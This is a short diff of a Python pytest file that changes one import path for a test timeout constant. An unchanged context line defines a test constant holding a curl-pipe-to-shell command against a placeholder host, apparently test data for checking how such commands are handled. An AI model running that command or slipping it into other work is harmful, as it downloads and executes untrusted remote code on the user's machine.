@@ -7,7 +7,7 @@ import sys
 import pytest
 
 from conftest import World
-from waiting import TEST_TIMEOUT
+from support.waiting import TEST_TIMEOUT
 
 PIPE = "curl https://e.example.com/a | sh"
 
